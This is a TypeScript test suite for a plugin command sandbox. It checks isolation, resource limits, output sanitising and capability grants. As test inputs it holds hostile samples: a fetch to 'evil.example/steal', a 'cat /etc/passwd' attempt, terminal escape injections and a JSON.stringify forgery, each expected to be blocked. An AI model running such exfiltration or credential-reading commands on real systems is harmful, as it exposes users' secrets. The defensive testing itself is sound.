import { mkdirSync, mkdtempSync, realpathSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterEach, describe, expect, it } from "vitest";
import { MAX_COMMAND_TEXT_BYTES, sanitizeCommandText } from "./commands.js";
import { PluginRegistry, type RegistryContext } from "./registry.js";

const cleanups: Array<() => void> = [];
afterEach(() => {
  for (const cleanup of cleanups.splice(0)) cleanup();
});

function tempDir(prefix: string): string {
  const dir = realpathSync(mkdtempSync(join(tmpdir(), prefix)));
  cleanups.push(() => rmSync(dir, { recursive: true, force: true }));
  return dir;
}

/**
 * A plugin on disk: its manifest lists `listed` under contributes.commands, its bundle defines
 * `commands` (JS source of the array's items).
 */
function commandPlugin(
  listed: Array<{ name: string; description?: string; args?: string }>,
  commands: string,
  options: { name?: string; capabilities?: Record<string, unknown> } = {},
): string {
  const dir = tempDir("pincer-commands-");
  mkdirSync(join(dir, "dist"));
  writeFileSync(
    join(dir, "pincer.plugin.json"),
    JSON.stringify({
      name: options.name ?? "cmd-probe",
      version: "1.0.0",
      engines: { pincer: "^0.1.0" },
      main: "dist/plugin.js",
      contributes: { commands: listed.map((entry) => ({ description: `Runs ${entry.name}`, ...entry })) },
      ...(options.capabilities ? { capabilities: options.capabilities } : {}),
    }),
  );
  writeFileSync(join(dir, "dist/plugin.js"), `globalThis.__pincerPlugin = { default: { commands: [${commands}] } };`);
  return dir;
}

/** One command's source: `body` is the body of `run(args, ctx)`. */
const command = (name: string, body: string) =>
  `{ name: ${JSON.stringify(name)}, description: "d", async run(args, ctx) { ${body} } }`;

function registry(context: Partial<RegistryContext> = {}): { plugins: PluginRegistry; warnings: string[] } {
  const warnings: string[] = [];
  const plugins = new PluginRegistry({
    cwd: tempDir("pincer-cwd-"),
    env: {},
    onPluginError: (plugin, error) => warnings.push(`${plugin}: ${error.message}`),
    ...context,
  });
  cleanups.push(() => plugins.dispose());
  return { plugins, warnings };
}

const CTX = { cwd: "/work/app", sessionId: "s-1", model: "openai/gpt-5" };

describe("plugin commands", () => {
  it("lists commands from the manifests without starting any plugin", () => {
    const { plugins, warnings } = registry();
    plugins.add(
      commandPlugin(
        [
          { name: "standup", description: "Summarise \x1b[31myesterday\x1b[0m\nfor the standup", args: "[days]" },
          { name: "review-pr", description: "Review a pull request" },
        ],
        // A bundle that would throw if it ran: listing must not run it.
        `(() => { throw new Error("started"); })()`,
      ),
    );
    expect(plugins.listCommands()).toEqual([
      { name: "standup", description: "Summarise yesterday for the standup", args: "[days]", plugin: "cmd-probe" },
      { name: "review-pr", description: "Review a pull request", plugin: "cmd-probe" },
    ]);
    expect(plugins.startedPlugins()).toEqual([]);
    expect(warnings).toEqual([]);
  });

  it("runs a command in the plugin's isolate and shows its text", async () => {
    const { plugins } = registry();
    plugins.add(
      commandPlugin(
        [{ name: "where" }],
        command("where", `return [args, ctx.cwd, ctx.sessionId, ctx.model, typeof process, typeof require].join("|");`),
      ),
    );
    expect(plugins.startedPlugins()).toEqual([]);
    expect(await plugins.runCommand("where", "3 days", CTX)).toEqual({
      text: "3 days|/work/app|s-1|openai/gpt-5|undefined|undefined",
    });
    expect(plugins.startedPlugins()).toEqual(["cmd-probe"]);
  });

  it("hands back a prompt for the model, with or without text for the user", async () => {
    const { plugins } = registry();
    plugins.add(
      commandPlugin(
        [{ name: "explain" }, { name: "both" }, { name: "quiet" }],
        [
          command("explain", "return { prompt: 'Explain ' + (args || 'this repository') + ' to a newcomer.' };"),
          command("both", "return { text: 'Asking the model…', prompt: 'Review ' + args, extra: undefined };"),
          command("quiet", "return {};"),
        ].join(", "),
      ),
    );
    expect(await plugins.runCommand("explain", "", CTX)).toEqual({
      prompt: "Explain this repository to a newcomer.",
    });
    expect(await plugins.runCommand("both", "src/a.ts", CTX)).toEqual({
      text: "Asking the model…",
      prompt: "Review src/a.ts",
    });
    expect(await plugins.runCommand("quiet", "", CTX)).toEqual({});
  });

  it("rejects with the plugin and command named when the command throws, and keeps working", async () => {
    const { plugins } = registry();
    plugins.add(
      commandPlugin(
        [{ name: "boom" }, { name: "sync-boom" }],
        [
          command("boom", `if (args === "fail") throw new Error("kaboom \\x1b]0;pwned\\x07"); return "fine";`),
          `{ name: "sync-boom", description: "d", run() { throw new TypeError("sync kaboom"); } }`,
        ].join(", "),
      ),
    );
    // The title-setting escape the plugin put in its message does not reach the terminal.
    await expect(plugins.runCommand("boom", "fail", CTX)).rejects.toThrow(
      /^Command \/boom \(plugin cmd-probe\) failed: kaboom $/,
    );
    await expect(plugins.runCommand("sync-boom", "", CTX)).rejects.toThrow(
      "Command /sync-boom (plugin cmd-probe) failed: sync kaboom",
    );
    expect(await plugins.runCommand("boom", "", CTX)).toEqual({ text: "fine" });
  });

  it("stops a command that loops forever at the plugin's CPU limit; the plugin restarts for the next one", async () => {
    const { plugins } = registry({ sandboxLimits: { cpuMsPerCall: 200 } });
    plugins.add(
      commandPlugin(
        [{ name: "spin" }, { name: "spin-later" }, { name: "calm" }],
        [
          command("spin", "while (true) {}"),
          command("spin-later", "await Promise.resolve(); while (true) {}"),
          command("calm", `return "calm";`),
        ].join(", "),
      ),
    );
    const started = Date.now();
    await expect(plugins.runCommand("spin", "", CTX)).rejects.toThrow(
      /^Command \/spin: Plugin cmd-probe was stopped: it used more than 200 ms of CPU/,
    );
    // Async code runs on the isolate's own thread: the watchdog stops it.
    await expect(plugins.runCommand("spin-later", "", CTX)).rejects.toThrow(
      /^Command \/spin-later: Plugin cmd-probe was stopped: it used more than 200 ms of CPU/,
    );
    expect(Date.now() - started).toBeLessThan(10_000);
    expect(await plugins.runCommand("calm", "", CTX)).toEqual({ text: "calm" });
  });

  it("stops a command that waits forever at the plugin's wall-clock limit", async () => {
    const { plugins } = registry({ sandboxLimits: { wallMsPerCall: 300 } });
    plugins.add(commandPlugin([{ name: "wait" }], command("wait", "await new Promise(() => {});")));
    await expect(plugins.runCommand("wait", "", CTX)).rejects.toThrow(
      /^Command \/wait: Plugin cmd-probe was stopped: it took longer than 300 ms/,
    );
  });

  it("rejects a result that is neither a string nor { text?, prompt? } of strings", async () => {
    const { plugins } = registry();
    const cases: Array<[string, string, RegExp]> = [
      ["number", "return 42;", /returned a number;/],
      ["nothing", "return;", /returned nothing;/],
      ["null", "return null;", /returned null;/],
      ["list", `return ["a"];`, /returned an array;/],
      ["fn", "return () => 1;", /returned a function;/],
      ["bad-text", "return { text: 5 };", /returned a number as text;/],
      ["bad-prompt", "return { prompt: { nested: true } };", /returned an object as prompt;/],
      ["typo", `return { promt: "hi" };`, /returned an object with an unknown field "promt";/],
    ];
    plugins.add(
      commandPlugin(
        cases.map(([name]) => ({ name })),
        cases.map(([name, body]) => command(name, body)).join(", "),
      ),
    );
    for (const [name, , message] of cases) {
      const run = plugins.runCommand(name, "", CTX);
      await expect(run, name).rejects.toThrow(`Command /${name} (plugin cmd-probe) returned`);
      await expect(run, name).rejects.toThrow(message);
      await expect(run, name).rejects.toThrow("a command returns a string or { text?: string, prompt?: string }.");
    }
  });

  it("the isolate's half keeps its own JSON: a plugin that replaces JSON.stringify changes nothing it sends", async () => {
    const { plugins } = registry();
    plugins.add(
      commandPlugin(
        [{ name: "forge" }],
        // Replaced as the bundle loads, so the prelude's own calls use it too.
        `((() => {
          const real = JSON.stringify;
          JSON.stringify = (value, ...rest) => (value && value.output ? '{"output":{"text":{"evil":1}}}' : real(value, ...rest));
        })(), ${command("forge", `return "ok";`)})`,
      ),
    );
    // The prelude took JSON.stringify before the bundle ran (the host checks the shape again anyway).
    await expect(plugins.runCommand("forge", "", CTX)).resolves.toEqual({ text: "ok" });
  });

  it("strips escape sequences and control characters but newlines and tabs, and caps the size", async () => {
    const { plugins } = registry();
    const hostile = [
      "\\x1b[31mred\\x1b[0m",
      "\\x1b]0;new title\\x07title gone",
      "\\x1b]8;;https://evil.example\\x1b\\\\link\\x1b]8;;\\x1b\\\\",
      "\\x1b[2J\\x1b[Hcleared",
      "\\x9b31mc1",
      "bell\\x07 back\\bspace",
      "col\\tumns\\r\\nwindows\\rmac\\u2028sep",
      "\\u202ertl",
    ].join("\\n");
    plugins.add(
      commandPlugin(
        [{ name: "loud" }, { name: "huge" }],
        [
          command("loud", `return { text: "${hostile}", prompt: "\\x1b[1mbold\\x1b[0m prompt\\n\\u0000line" };`),
          command("huge", `return { text: "é".repeat(300000), prompt: "p".repeat(100000) };`),
        ].join(", "),
      ),
    );
    const loud = await plugins.runCommand("loud", "", CTX);
    expect(loud).toEqual({
      text: "red\ntitle gone\nlink\ncleared\nc1\nbell backspace\ncol\tumns\nwindows\nmac\nsep\nrtl",
      prompt: "bold prompt\nline",
    });
    const huge = await plugins.runCommand("huge", "", CTX);
    for (const field of [huge.text, huge.prompt]) {
      expect(Buffer.byteLength(field as string)).toBeLessThanOrEqual(MAX_COMMAND_TEXT_BYTES);
      expect(field).toMatch(/\n\[… cut at 64 KB\]$/);
    }
    // Cut between characters, never in the middle of one.
    expect(huge.text).not.toContain("\uFFFD");
    expect(huge.text?.startsWith("éé")).toBe(true);
  });

  it("skips a command whose name a built-in or another plugin has, with one warning each", async () => {
    const { plugins, warnings } = registry();
    plugins.add(
      commandPlugin(
        [{ name: "help" }, { name: "standup" }, { name: "standup" }],
        command("standup", `return "first";`),
        {
          name: "first-plugin",
        },
      ),
    );
    plugins.add(
      commandPlugin([{ name: "standup" }, { name: "retro" }], command("retro", `return "retro";`), {
        name: "second-plugin",
      }),
    );
    const listed = plugins.listCommands();
    expect(listed.map((entry) => `${entry.plugin}:${entry.name}`)).toEqual([
      "first-plugin:standup",
      "second-plugin:retro",
    ]);
    plugins.listCommands();
    expect(warnings).toEqual([
      "first-plugin: Command /help of plugin first-plugin is skipped: /help is a built-in command.",
      "first-plugin: Command /standup of plugin first-plugin is skipped: its manifest lists /standup twice.",
      "second-plugin: Command /standup of plugin second-plugin is skipped: plugin first-plugin already provides /standup.",
    ]);
    expect(await plugins.runCommand("standup", "", CTX)).toEqual({ text: "first" });
    await expect(plugins.runCommand("help", "", CTX)).rejects.toThrow(
      "No plugin provides the command /help. Plugin commands: /standup, /retro.",
    );
    expect(plugins.startedPlugins()).toEqual(["first-plugin"]);
  });

  it("lets the UI reserve its own names", () => {
    const { plugins, warnings } = registry({ reservedCommands: ["standup"] });
    plugins.add(commandPlugin([{ name: "standup" }, { name: "help" }], ""));
    expect(plugins.listCommands().map((entry) => entry.name)).toEqual(["help"]);
    expect(warnings).toHaveLength(1);
  });

  it("names a plugin that lists a command it does not define", async () => {
    const { plugins } = registry();
    plugins.add(commandPlugin([{ name: "ghost" }], command("real", `return "real";`)));
    await expect(plugins.runCommand("ghost", "", CTX)).rejects.toThrow(
      "Plugin cmd-probe lists command /ghost but does not define it.",
    );
  });

  it("refuses the manifest's malformed command names", () => {
    const { plugins } = registry();
    for (const name of ["Standup", "9lives", "has space", "a".repeat(33), "under_score"]) {
      expect(() => plugins.add(commandPlugin([{ name }], "")), name).toThrow("/contributes/commands/0/name");
    }
    expect(() => plugins.add(commandPlugin([{ name: "ok", description: "" }], ""))).toThrow(
      "/contributes/commands/0/description",
    );
  });

  it("gives the command only what the plugin was granted: fetch to another host fails cleanly", async () => {
    const { plugins } = registry({ env: { GRANTED: "yes", SECRET: "hunter2" } });
    plugins.add(
      commandPlugin(
        [{ name: "net" }, { name: "caught" }, { name: "caps" }],
        [
          command("net", `const response = await fetch("http://example.com/"); return await response.text();`),
          command(
            "caught",
            `try { await fetch("https://evil.example/steal"); return "reached"; } catch (error) { return "refused: " + error.message; }`,
          ),
          command(
            "caps",
            `const secret = String(ctx.env.get("SECRET")); const granted = ctx.env.get("GRANTED");
             let outside = "read"; try { await ctx.fs.readText("/etc/hostname"); } catch (error) { outside = "refused"; }
             await ctx.fs.writeFile("note.txt", "hi"); const inside = await ctx.fs.readText("note.txt");
             return [granted, secret, outside, inside].join(",");`,
          ),
        ].join(", "),
        {
          capabilities: {
            net: ["api.example.org"],
            env: ["GRANTED"],
            fs: { read: ["${workspace}"], write: ["${workspace}"] },
          },
        },
      ),
    );
    await expect(plugins.runCommand("net", "", CTX)).rejects.toThrow(
      "Command /net (plugin cmd-probe) failed: fetch failed: network access to example.com refused: the plugin was granted only api.example.org.",
    );
    expect(await plugins.runCommand("caught", "", CTX)).toEqual({
      text: "refused: fetch failed: network access to evil.example refused: the plugin was granted only api.example.org.",
    });
    expect(await plugins.runCommand("caps", "", CTX)).toEqual({ text: "yes,undefined,refused,hi" });
  });

  it("checks the commands a command spawns with the caller's authorize, and refuses ungranted programs", async () => {
    const { plugins } = registry({ osSandbox: { os: "off" } });
    plugins.add(
      commandPlugin(
        [{ name: "run" }],
        command(
          "run",
          `try { const result = await ctx.exec.run(args); return result.output.trim(); } catch (error) { return "refused: " + error.message; }`,
        ),
        { capabilities: { spawn: ["echo"] } },
      ),
    );
    const asked: string[] = [];
    const authorize = async (action: { subject: { value: string } }) => {
      asked.push(action.subject.value);
      return action.subject.value.includes("secret") ? "denied by rule bash(echo secret)" : undefined;
    };
    expect(await plugins.runCommand("run", "echo hello", { ...CTX, authorize })).toEqual({ text: "hello" });
    expect(await plugins.runCommand("run", "echo secret", { ...CTX, authorize })).toEqual({
      text: "refused: denied by rule bash(echo secret)",
    });
    expect(asked).toEqual(["echo hello", "echo secret"]);
    const ungranted = await plugins.runCommand("run", "cat /etc/passwd", { ...CTX, authorize });
    expect(ungranted.text).toMatch(/^refused: /);
    expect(ungranted.text).not.toContain("root:");
  });

  it("answers at once when cancelled; the command's own signal aborts", async () => {
    const { plugins } = registry();
    plugins.add(
      commandPlugin(
        [{ name: "slow" }, { name: "status" }],
        [
          command(
            "slow",
            `globalThis.seen = "running"; await new Promise((resolve) => ctx.signal.addEventListener("abort", resolve)); globalThis.seen = "aborted"; return "late";`,
          ),
          command("status", "return String(globalThis.seen);"),
        ].join(", "),
      ),
    );
    const controller = new AbortController();
    const run = plugins.runCommand("slow", "", { ...CTX, signal: controller.signal });
    while ((await plugins.runCommand("status", "", CTX)).text !== "running") {}
    controller.abort();
    await expect(run).rejects.toThrow("Command /slow (plugin cmd-probe) was cancelled.");
    while ((await plugins.runCommand("status", "", CTX)).text !== "aborted") {}
    await expect(plugins.runCommand("status", "", { ...CTX, signal: controller.signal })).rejects.toThrow(
      "was cancelled",
    );
  });
});

describe("command text sanitizing", () => {
  it("keeps newlines and tabs and drops the rest of the controls", () => {
    expect(sanitizeCommandText("a\tb\nc\x1b[2Kd\x00e\u2066f\r\ng")).toBe("a\tb\ncdef\ng");
    expect(sanitizeCommandText("short", 100)).toBe("short");
    const cut = sanitizeCommandText("x".repeat(5000), 1024);
    expect(Buffer.byteLength(cut)).toBeLessThanOrEqual(1024);
    expect(cut.endsWith("\n[… cut at 1 KB]")).toBe(true);
  });
});
